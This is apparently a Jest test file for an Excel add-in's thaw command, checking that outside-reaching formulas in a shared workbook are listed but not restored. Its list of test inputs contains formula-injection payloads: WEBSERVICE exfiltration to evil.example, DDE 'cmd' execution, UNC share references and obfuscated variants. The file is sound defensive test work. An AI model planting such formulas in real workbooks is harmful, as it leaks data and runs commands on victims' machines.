/** Frozen cells that came with a workbook of somebody else's: what Thaw writes, and what it only shows. */
import { runCommand } from "../../src/commands/command";
import { freezeForSharing } from "../../src/commands/sharing/freezeForSharing";
import { readSharing } from "../../src/commands/sharing/readSharing";
import { thaw } from "../../src/commands/sharing/thaw";
import type { HeadlessExcel } from "../../src/workbench/headless";
import { digestOf } from "../../src/workbook/sharing/frozen";
import type { ThawPreview } from "../../src/workbook/sharing/thaw";
import { toXml, FROZEN_PART } from "../../src/workbook/excel/xmlParts";
import { excelWithFunctions } from "./excelWithFunctions";

jest.setTimeout(60_000);

let excel: HeadlessExcel;
beforeEach(async () => {
  excel = await excelWithFunctions();
});
afterEach(() => excel.dispose());

const inExcel = (act: (context: Excel.RequestContext) => void) =>
  Excel.run(async (context) => {
    act(context);
    await context.sync();
  });

type Form = readonly (string | 0 | 1)[];
interface Hostile {
  readonly form: Form;
  /** References that follow the cell's own in its tracker. */
  readonly references?: readonly string[];
  readonly area?: string;
  readonly rows?: number;
  readonly columns?: number;
}

/** A workbook as it was saved by somebody who knows how cells are frozen: cells that hold 5, in column B from row 1. */
async function withFrozen(cells: readonly Hostile[]): Promise<void> {
  cells.forEach((_, at) => excel.enter(`Sheet1!B${at + 1}`, 5));
  const document = {
    version: 1,
    when: 46_300,
    sheets: ["Sheet1"],
    forms: cells.map(({ form }) => form),
    cells: cells.map(({ rows = 1, columns = 1 }, at) => [at + 1, 0, at, 1, rows, columns, at, digestOf([[5]]), []]),
  };
  await inExcel((context) => {
    context.workbook.customXmlParts.add(toXml(FROZEN_PART, document));
    const sheet = context.workbook.worksheets.add("Gigadeal frozen");
    sheet.visibility = "VeryHidden";
    sheet.getRangeByIndexes(0, 0, cells.length, 1).formulas = cells.map(({ references = [], area }, at) => [
      `=CHOOSE(1,${[at + 1, area ?? `Sheet1!$B$${at + 1}`, ...references].join(",")})`,
    ]);
  });
}

let seen: ThawPreview | null;
const thawed = (goesAhead = true) => {
  seen = null;
  return runCommand(thaw, {
    review: (found) => {
      seen = found;
      return Promise.resolve(goesAhead);
    },
  });
};

const hostile: readonly Form[] = [
  ['=WEBSERVICE("https://evil.example/?x="&A1)'],
  ['=ANNUALIZE(10,2027,2031)+WEBSERVICE("https://evil.example/")'],
  ['=IF(TRUE,1,_xlfn.webservice ("https://evil.example/"))'],
  ['=HYPERLINK("https://evil.example/","Click here")'],
  ['=IMAGE("https://evil.example/x.png")'],
  ["=cmd|'/c calc'!A0"],
  ["=ANNUALIZE(10,2027,2031)+cmd|'/c calc'!A0"],
  ["='\\\\evil\\share\\[b.xlsx]Sheet1'!A1"],
  ["=ANNUALIZE('\\\\evil\\share\\[b.xlsx]Sheet1'!A1,2027,2031)"],
  ['=LET(f,WEBSERVICE,ANNUALIZE(f("https://evil.example/"),2027,2031))'],
  ["=ANNUALIZE(Payload,2027,2031)"],
  ["+cmd|'/c calc'!A0"],
  ["=1+1"],
  ["text"],
];

test("no formula that reaches outside, or calls none of ours, is written: all of them are shown as texts and stay kept", async () => {
  await inExcel((context) => context.workbook.names.add("Payload", '=HYPERLINK("https://evil.example/")'));
  await withFrozen([{ form: ["=ANNUALIZE(10,2027,2031)"] }, ...hostile.map((form) => ({ form }))]);
  const outcome = await thawed();
  expect(seen!.cells).toEqual([{ sheet: "Sheet1", address: "B1", formula: "=ANNUALIZE(10,2027,2031)" }]);
  const left = hostile.map(([formula], at) => ({ sheet: "Sheet1", address: `B${at + 2}`, formula, reason: "outside" }));
  expect(seen!.left).toEqual(left);
  expect(outcome).toEqual({ ok: true, value: { thawed: 1, left } });
  expect(excel.formulas(`Sheet1!B1:B${hostile.length + 1}`).flat()).toEqual([
    "=ANNUALIZE(10,2027,2031)",
    ...hostile.map(() => 5),
  ]);
  expect(await runCommand(readSharing, undefined)).toMatchObject({ value: { frozen: hostile.length } });
});

test("a reference of a tracker to another workbook does not get into a formula", async () => {
  await withFrozen([
    { form: ["=ANNUALIZE(", 1, ",2027,2031)"], references: ["'\\\\evil\\share\\[b.xlsx]Sheet1'!$A$1"] },
    { form: ["=ANNUALIZE(", 1, ",2027,2031)"], references: ["Sheet1!$A$1", "WEBSERVICE(1)"] },
  ]);
  expect(await thawed()).toMatchObject({ ok: true });
  expect(excel.formulas("Sheet1!B1:B2").flat().join()).not.toMatch(/evil|WEBSERVICE/);
});

test("nothing is written, and nothing forgotten, where the user would rather not have the formulas back", async () => {
  await withFrozen([{ form: ["=ANNUALIZE(10,2027,2031)"] }]);
  expect(await thawed(false)).toEqual({ ok: true, value: { thawed: 0, left: [] } });
  expect(excel.formulas("Sheet1!B1")).toEqual([[5]]);
  expect(await runCommand(readSharing, undefined)).toMatchObject({ value: { frozen: 1 } });
  expect(await thawed()).toMatchObject({ value: { thawed: 1 } });
});

test("what was changed while the list was shown is not written over", async () => {
  await withFrozen([{ form: ["=ANNUALIZE(10,2027,2031)"] }, { form: ["=ANNUALIZE(20,2027,2031)"] }]);
  const outcome = await runCommand(thaw, {
    review: () => {
      excel.enter("Sheet1!B2", 7);
      return Promise.resolve(true);
    },
  });
  expect(outcome).toMatchObject({ ok: false, problem: { key: "cellsChanged" } });
  expect(excel.formulas("Sheet1!B1:B2")).toEqual([[5], [7]]);
});

test("a tracker over a million cells is refused by the limit before they are read", async () => {
  await withFrozen([{ form: ["=ANNUALIZE(10,2027,2031)"], area: "Sheet1!$A$1:$J$100000", rows: 100_000, columns: 10 }]);
  const started = performance.now();
  expect(await thawed()).toEqual({
    ok: false,
    problem: { key: "tooManyCells", parameters: { cells: 1_000_000, most: 200_000 } },
  });
  expect(performance.now() - started).toBeLessThan(2000);
});

test("a tracker over other cells than were frozen is read at its first cell only, and its formula stays kept", async () => {
  await withFrozen([{ form: ["=ANNUALIZE(10,2027,2031)"], area: "Sheet1!$A$1:$J$100000" }]);
  expect(await thawed()).toMatchObject({ value: { thawed: 0, left: [{ reason: "edited" }] } });
  expect(excel.formulas("Sheet1!A1:B1")).toEqual([["", 5]]);
});

test("freezing leaves live, and tells of, what thawing would not bring back", async () => {
  excel.enter("Sheet1!A1", '=ANNUALIZE(10,2027,2031)&HYPERLINK("https://deals.example/","page")');
  excel.enter("Sheet1!A2", "=ANNUALIZE(10,2027,2031)");
  await excel.whenIdle();
  const outcome = await runCommand(freezeForSharing, { review: () => Promise.resolve(true) });
  expect(outcome).toMatchObject({ value: { frozen: 1, left: [{ address: "A1", reason: "outside" }] } });
  expect(excel.formulas("Sheet1!A1:A2").flat()).toEqual([
    '=ANNUALIZE(10,2027,2031)&HYPERLINK("https://deals.example/","page")',
    2,
  ]);
});
